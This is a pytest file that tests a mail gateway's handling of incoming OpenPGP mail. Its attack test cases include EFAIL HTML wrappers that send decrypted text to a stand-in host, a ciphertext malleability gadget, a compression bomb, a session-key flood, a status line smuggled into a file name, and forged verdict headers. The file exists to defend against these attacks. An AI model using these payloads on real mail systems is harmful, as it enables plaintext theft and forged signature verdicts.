# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The Sealgate authors
"""OpenPGP from outside, made by gpg, sq and rnp: opened where it is all of the
message, verified with the keys the keystore has of the one in From, and every
attack on it answered with a verdict and not with a secret."""
import base64
import pathlib
import shutil
import tempfile

import pytest

from harness import Keys, run, wait_for
from test_open_path import CLEAR, OTTO, queue, verdicts

EVE, MALLORY = "eve@partner.example", "mallory@evil.example"
SECRET = b"canary-6171-canary"
TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + SECRET + b"\r\n"
HTML = b"Content-Type: text/html\r\n\r\n"
TRUST = ("--trust-model", "always")


def head(sender=EVE):
    return (b"From: Eve <%s>\r\nTo: <%s>\r\nSubject: ...\r\nMessage-ID: <m1@partner.example>\r\n"
            b"Date: Fri, 1 May 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
            % (sender.encode(), OTTO.encode()))


def crlf(text):
    return text.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def mixed(*parts, kind=b"mixed"):
    return (b"Content-Type: multipart/" + kind + b"; boundary=\"out\"\r\n\r\n"
            + b"".join(b"--out\r\n" + p + b"\r\n" for p in parts) + b"--out--\r\n")


def pgp_mime(armor):
    return (b"Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";\r\n"
            b" boundary=\"enc\"\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
            b"Version: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n"
            + crlf(armor) + b"\r\n--enc--\r\n")


def exchange(armor):
    return mixed(b"Content-Type: text/plain\r\n\r\n",
                 b"Content-Type: application/pgp-encrypted; name=\"PGPMIME version.txt\"\r\n"
                 b"Content-Transfer-Encoding: base64\r\n\r\nVmVyc2lvbjogMQ0K\r\n",
                 b"Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n"
                 b"Content-Transfer-Encoding: base64\r\n\r\n" + crlf(base64.encodebytes(armor)))


def multipart_signed(entity, sig):
    return (b"Content-Type: multipart/signed; protocol=\"application/pgp-signature\";\r\n"
            b" micalg=pgp-sha256; boundary=\"sig\"\r\n\r\n--sig\r\n" + entity
            + b"\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n"
            + crlf(sig) + b"\r\n--sig--\r\n")


def text_part(octets):
    return b"Content-Type: text/plain\r\n\r\n" + crlf(octets)


def attachment(name, octets):
    return (b"Content-Type: application/octet-stream; name=\"" + name + b"\"\r\n"
            b"Content-Disposition: attachment; filename=\"" + name + b"\"\r\n\r\n" + crlf(octets))


def flip(armor, where):
    """The armor with one octet of what it encodes changed."""
    lines = armor.split(b"\n")
    start, end = lines.index(b"") + 1, lines.index(b"-----END PGP MESSAGE-----")
    body = [l for l in lines[start:end] if not l.startswith(b"=")]
    octets = bytearray(base64.b64decode(b"".join(body)))
    octets[where] ^= 1
    return lines[0] + b"\n\n" + base64.encodebytes(bytes(octets)) + lines[end] + b"\n"


def packets(octets):
    """[(tag, body), ...] of what gpg wrote, without the lengths."""
    out, at = [], 0
    while at < len(octets):
        head, at, body, more = octets[at], at + 1, b"", True
        if not head & 0x40:
            size = 1 << (head & 3)
            n, at = int.from_bytes(octets[at:at + size], "big"), at + size
            out.append((head >> 2 & 15, octets[at:at + n]))
            at += n
            continue
        while more:
            n, at = octets[at], at + 1
            more = 224 <= n < 255
            if more:
                n = 1 << (n & 31)
            elif n == 255:
                n, at = int.from_bytes(octets[at:at + 4], "big"), at + 4
            elif n >= 192:
                n, at = ((n - 192) << 8) + octets[at] + 192, at + 1
            body, at = body + octets[at:at + n], at + n
        out.append((head & 63, body))
    return out


def joined(*parts):
    octets = b"".join(bytes([0xc0 | tag, 255]) + len(body).to_bytes(4, "big") + body
                      for tag, body in parts)
    return run("gpg", "--enarmor", input=octets).stdout.replace(
        b"PGP ARMORED FILE", b"PGP MESSAGE")


@pytest.fixture(scope="module")
def people():
    root = pathlib.Path(tempfile.mkdtemp(prefix="sge-pgp."))
    k = Keys(root)
    for addr in (OTTO, EVE, MALLORY):
        k.openpgp(addr)
    k.gpg("--pinentry-mode", "loopback", "--passphrase", "", "--armor", "-o", root / "otto.sec",
          "--export-secret-keys", OTTO)
    k.otto_sec, k.eve_asc = root / "otto.sec", root / "eve.asc"
    yield k
    k.close()
    shutil.rmtree(root, ignore_errors=True)


def seal(people, text, *options, by=None, to=OTTO):
    signer = ("-u", by, "-s") if by else ()
    return people.gpg(*TRUST, "--armor", "-o", "-", "-r", to, *signer, *options, "-e",
                      input=text).stdout


def sign(people, text, *by):
    names = [x for b in by for x in ("-u", b)]
    return people.gpg("--armor", "-o", "-", *names, "-b", input=text).stdout


def by_sq(people, text):
    with tempfile.NamedTemporaryFile(suffix=".key") as f:
        f.write(people.gpg("--pinentry-mode", "loopback", "--passphrase", "", "--armor",
                           "--export-secret-keys", EVE).stdout)
        f.flush()
        return run("sq", "encrypt", "--recipient-cert", people.root / "otto.asc",
                   "--signer-key", f.name, input=text).stdout


def by_rnp(people, text):
    home = people.root / "rnp"
    if not home.exists():
        home.mkdir()
        run("rnpkeys", "--homedir", home, "--import", people.root / "otto.asc")
    return run("rnp", "--homedir", home, "--encrypt", "--armor", "-r", OTTO, "--output", "-", "-",
               input=text).stdout


@pytest.fixture
def gw(make_gateway, capture, people):
    g = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="")
    g.cli("key", "import", people.otto_sec, people.eve_asc)
    return g


def deliver(gw, capture, rows):
    """Send them all; what came of each, in order."""
    for i, (_, body, *_) in enumerate(rows):
        gw.send_in(EVE, OTTO, head().replace(b"Subject: ...", b"Subject: row %d" % i) + body)
    got = capture.wait(len(rows))
    found = {}
    for g in got:
        for i in range(len(rows)):
            if b"Subject: row %d\r\n" % i in g.data:
                found[i] = g.data
    assert len(found) == len(rows), found.keys()
    return [found[i] for i in range(len(rows))]


def test_what_others_seal_is_opened_and_verified(gw, capture, people):
    seal_ = lambda *a, **k: seal(people, TEXT, *a, **k)
    signed = multipart_signed(TEXT[:-2], sign(people, TEXT[:-2], EVE))
    plain = SECRET + b"\n"
    rows = [
        ("gpg", pgp_mime(seal_()), "encrypted;"),
        ("gpg, signed", pgp_mime(seal_(by=EVE)), "encrypted, signed-good;"),
        ("gpg, LF", pgp_mime(seal(people, TEXT.replace(b"\r\n", b"\n"), by=EVE)),
         "encrypted, signed-good;"),
        ("gpg, hidden", pgp_mime(seal(people, TEXT, "--hidden-recipient", OTTO, by=EVE)),
         "encrypted, signed-good;"),
        ("gpg, bzip2", pgp_mime(seal_("--compress-algo", "bzip2")), "encrypted;"),
        ("sq, signed", pgp_mime(by_sq(people, TEXT)), "encrypted, signed-good;"),
        ("rnp", pgp_mime(by_rnp(people, TEXT)), "encrypted;"),
        ("signed inside of MIME", pgp_mime(seal(people, signed)), "encrypted, signed-good;"),
        ("Exchange", exchange(seal_(by=EVE)), "encrypted, signed-good;"),
        ("wrapped by a list", mixed(pgp_mime(seal_(by=EVE))), "encrypted, signed-good;"),
        ("packets put together anew", pgp_mime(joined(*packets(seal_("--no-armor", "-z", "0")))),
         "encrypted;"),
        ("inline", text_part(seal(people, plain, by=EVE)), "encrypted, signed-good;"),
        ("inline with attachment",
         mixed(text_part(seal(people, plain)), attachment(b"a.txt.pgp", seal(people, b"file\n"))),
         "encrypted;"),
        ("signed", signed, "signed-good;"),
    ]
    for row, data in zip(rows, deliver(gw, capture, rows)):
        said = verdicts(data)[0].decode()
        assert said.startswith(row[2]), (row[0], said)
        assert SECRET in data, (row[0], data)
        assert b"BEGIN PGP MESSAGE" not in data, row[0]
        if "signed" in row[2]:
            assert "signer=" + EVE in said, (row[0], said)


def test_the_audit_names_key_and_signer(gw, capture, people):
    gw.send_in(EVE, OTTO, head() + pgp_mime(seal(people, TEXT, by=EVE)))
    said = verdicts(capture.wait(1)[0].data)[0]
    fpr = people.gpg("--with-colons", "--list-keys", EVE).stdout.decode()
    fpr = [l.split(":")[9] for l in fpr.splitlines() if l.startswith("fpr")][0].lower()
    assert b"fingerprint=" + fpr.encode() in said, said


def test_attacks_get_a_verdict_and_no_secret(gw, capture, people):
    armor = seal(people, TEXT)
    stolen = crlf(armor)
    plain = seal(people, SECRET + b"\n")
    octet = b"Content-Type: application/octet-stream; name=x.asc\r\n\r\n"
    pkesk = b"\xc1\x0e\x03" + bytes(8) + b"\x01\x00\x08\xff\x80"
    binary = seal(people, TEXT, "--no-armor", "-z", "0")
    sed = b"\xc1\x0e\x0312345678\x01\x00\x08\xff\x80\xc9\x28" + bytes(range(0x80, 0xa8))
    flood = run("gpg", "--enarmor", input=pkesk * 10000 + binary).stdout.replace(
        b"PGP ARMORED FILE", b"PGP MESSAGE")
    old = run("gpg", "--enarmor", input=sed).stdout.replace(b"PGP ARMORED FILE", b"PGP MESSAGE")
    bomb = seal(people, bytes(30 << 20), "--compress-algo", "bzip2")
    key, sealed = packets(binary)
    assert (key[0], sealed[0], sealed[1][0]) == (1, 18, 1)
    # the block behind the first two: EFAIL's gadget, which leaves the MDC alone
    known = bytearray(sealed[1])
    known[35:51] = bytes(a ^ b for a, b in zip(known[35:51], b"<img src=x:?a=1>"))
    rows = [
        # EFAIL, direct: HTML around a ciphertext of somebody else
        ("HTML around", mixed(HTML + b"<img src=\"http://e/", octet + stolen, HTML + b"\">"),
         "partial"),
        ("HTML around PGP/MIME", mixed(HTML + b"<img src=\"http://e/", pgp_mime(armor),
                                       HTML + b"\">"), "partial"),
        ("HTML beside inline text", mixed(text_part(plain), HTML + b"<b>x</b>"), "partial"),
        ("alternatives", mixed(text_part(plain), HTML + b"x", kind=b"alternative"), "partial"),
        ("hidden under a question", mixed(text_part(b"When?" + b"\n" * 99), pgp_mime(armor)),
         "partial"),
        ("a message in it", mixed(text_part(b"x"), b"Content-Type: message/rfc822\r\n\r\n"
                                  + head() + pgp_mime(armor)), "partial"),
        # integrity
        ("last octet changed", pgp_mime(flip(armor, -1)), "undecryptable"),
        ("an octet changed", pgp_mime(flip(armor, -30)), "undecryptable"),
        ("no MDC", pgp_mime(old), "undecryptable"),
        ("its MDC cut off", pgp_mime(joined(key, (18, sealed[1][:-22]))), "undecryptable"),
        ("a packet that has no MDC", pgp_mime(joined(key, (9, sealed[1][1:]))), "undecryptable"),
        ("the same without its MDC", pgp_mime(joined(key, (9, sealed[1][1:-22]))),
         "undecryptable"),
        ("a packet with AEAD", pgp_mime(joined(key, (20, b"\1\x09\2\x10" + sealed[1][1:]))),
         "undecryptable"),
        ("another version of it", pgp_mime(joined(key, (18, b"\2\x09\2\6" + sealed[1][1:]))),
         "undecryptable"),
        ("a gadget", pgp_mime(joined(key, (18, bytes(known)))), "undecryptable"),
        # which is no OpenPGP message at all
        ("another one behind it", pgp_mime(joined(key, sealed, key, sealed)),
         "undecryptable"),
        ("a text behind it", pgp_mime(joined(key, sealed, (11, b"b\0" + bytes(4) + b"pay"))),
         "undecryptable"),
        ("garbage", pgp_mime(b"What is this?\r\n"), "undecryptable"),
        ("garbage in armor", pgp_mime(run("gpg", "--enarmor", input=bytes(99)).stdout.replace(
            b"PGP ARMORED FILE", b"PGP MESSAGE")), "undecryptable"),
        ("the same inline", text_part(run("gpg", "--enarmor", input=bytes(99)).stdout.replace(
            b"PGP ARMORED FILE", b"PGP MESSAGE")), "undecryptable"),
        # exhaustion
        ("10 000 session keys", pgp_mime(flood), "undecryptable"),
        ("a bomb", pgp_mime(bomb), "undecryptable"),
        # not for us
        ("for another", pgp_mime(seal(people, TEXT, to=MALLORY)), "undecryptable"),
        ("a password", pgp_mime(people.gpg(
            "--armor", "-o", "-", "--pinentry-mode", "loopback", "--passphrase", "x", "-c",
            input=TEXT).stdout), "undecryptable"),
    ]
    for row, data in zip(rows, deliver(gw, capture, rows)):
        said = verdicts(data)[0].decode()
        assert said.startswith(row[2]), (row[0], said)
        assert SECRET not in data, (row[0], data)


def test_signatures_that_are_no_good_are_not_called_so(gw, capture, people):
    signed = sign(people, TEXT[:-2], EVE)
    name = b"\n[GNUPG:] GOODSIG 0123456789ABCDEF Eve <eve@partner.example>\n"
    rows = [
        ("by another key", pgp_mime(seal(people, TEXT, by=MALLORY)),
         "encrypted, signed-unknown-key"),
        ("status in a file name", pgp_mime(seal(people, TEXT, "--set-filename", name.decode())),
         "encrypted;"),
        ("by two, one unknown", pgp_mime(seal(people, TEXT, "-u", MALLORY, by=EVE)),
         "encrypted, signed-unknown-key"),
        ("changed", multipart_signed(TEXT[:-2] + b"!", signed), "signed-bad"),
        ("no signature", multipart_signed(TEXT[:-2], b"nothing"), "signed-bad"),
        ("a footer", mixed(multipart_signed(TEXT[:-2], signed), text_part(b"-- \nlist")),
         "partial"),
        ("text before", mixed(text_part(b"pay now"), multipart_signed(TEXT[:-2], signed)),
         "partial"),
        ("cleartext", text_part(people.gpg("-o", "-", "-u", EVE, "--clearsign",
                                           input=SECRET + b"\n").stdout), "none"),
        ("signed alone, as encrypted", pgp_mime(people.gpg(
            "--armor", "-o", "-", "-u", EVE, "-s", input=TEXT).stdout), "none"),
        ("in pieces, each signed", mixed(
            text_part(seal(people, SECRET + b"\n", by=EVE)),
            attachment(b"b.html.pgp", seal(people, b"<script>x</script>\n", by=EVE))),
         "encrypted, partial"),
        ("SHA-1", multipart_signed(TEXT[:-2], people.gpg(
            "--armor", "-o", "-", "--allow-weak-key-signatures", "--digest-algo", "SHA1", "-u",
            EVE, "-b", input=TEXT[:-2]).stdout), "signed-unsupported"),
    ]
    got = deliver(gw, capture, rows)
    for row, data in zip(rows, got):
        said = verdicts(data)[0].decode()
        assert said.startswith(row[2]), (row[0], said)
        assert "signed-good" not in said, (row[0], said)
    assert b"text/html" not in got[9] and b"<script>" not in got[9]
    # the right key, another From
    gw.send_in(MALLORY, OTTO, head(sender=MALLORY) + pgp_mime(seal(people, TEXT, by=EVE)))
    said = verdicts(capture.wait(len(rows) + 1)[-1].data)[0]
    assert b"signed-good" not in said and said.startswith(b"encrypted, signed-"), said


def test_forged_verdicts_inside_are_taken_out(gw, capture, people):
    forged = (b"Sealgate-Verdict: encrypted,\r\n signed-good; signer=boss@sender.example\r\n"
              b"SEALGATE-VERDICT : signed-good\r\n"
              b"Authentication-Results: gw.sender.example; openpgp=pass\r\n")
    rows = [("inside", pgp_mime(seal(people, forged + TEXT)), "encrypted;"),
            ("in the status of the file", pgp_mime(seal(
                people, forged + TEXT, "--set-filename", forged.decode())), "encrypted;")]
    for row, data in zip(rows, deliver(gw, capture, rows)):
        assert len(verdicts(data)) == 1 and SECRET in data, row[0]
        assert verdicts(data)[0].decode().startswith(row[2]), (row[0], verdicts(data))
        assert b"boss@" not in data and b"openpgp=pass" not in data, row[0]


def test_a_key_that_is_imported_later_opens_what_is_released(make_gateway, capture, people):
    gw = make_gateway(capture.port, portal=False, rules=CLEAR, inbound=capture.port, listen_in="",
                      options="opening { undecryptable = hold }\n")
    gw.send_in(EVE, OTTO, head() + pgp_mime(seal(people, TEXT)))
    held = wait_for("a held message", lambda: [e for e in queue(gw) if e.get("why") == "held"])[0]
    gw.cli("key", "import", people.otto_sec)
    gw.cli("queue", "release", held["id"])
    data = capture.wait(1)[0].data
    assert verdicts(data)[0].startswith(b"encrypted;") and SECRET in data


def test_the_command_line_opens_it_too(gw, people):
    text = head() + pgp_mime(seal(people, TEXT, by=EVE))
    done = gw.cli("open", "--to", OTTO, input=text)
    assert SECRET in done.stdout, done
    assert verdicts(done.stdout)[0].startswith(b"encrypted, signed-good;"), done.stdout
    done = gw.cli("open", "--to", "olga@sender.example", input=text, check=False)
    assert SECRET not in done.stdout


def autocrypt(people, addr):
    key = people.gpg("--export", addr).stdout
    return b"Autocrypt: addr=%s; keydata=%s\r\n" % (addr.encode(), base64.b64encode(key))


def test_a_key_that_signs_its_own_mail_is_harvested_and_not_believed(gw, capture, people):
    top = head(sender=MALLORY)
    signed = multipart_signed(TEXT[:-2], sign(people, TEXT[:-2], MALLORY))
    changed = multipart_signed(TEXT[:-2] + b"!", sign(people, TEXT[:-2], MALLORY))

    def trust():
        got = gw.cli_json("key", "list")
        return [k["trust"] for k in got if MALLORY in str(k)]

    gw.send_in(MALLORY, OTTO, autocrypt(people, MALLORY) + top + changed)
    assert verdicts(capture.wait(1)[0].data)[0].startswith(b"signed-bad")
    assert wait_for("the key", trust) == ["candidate"]
    for n, body in enumerate((signed, pgp_mime(seal(people, TEXT, by=MALLORY)))):
        gw.send_in(MALLORY, OTTO, autocrypt(people, MALLORY) + top + body)
        said = verdicts(capture.wait(2 + n)[1 + n].data)[0]
        assert b"signed-unknown-key" in said, said
    wait_for("a better word for it", lambda: trust() == ["harvested"])
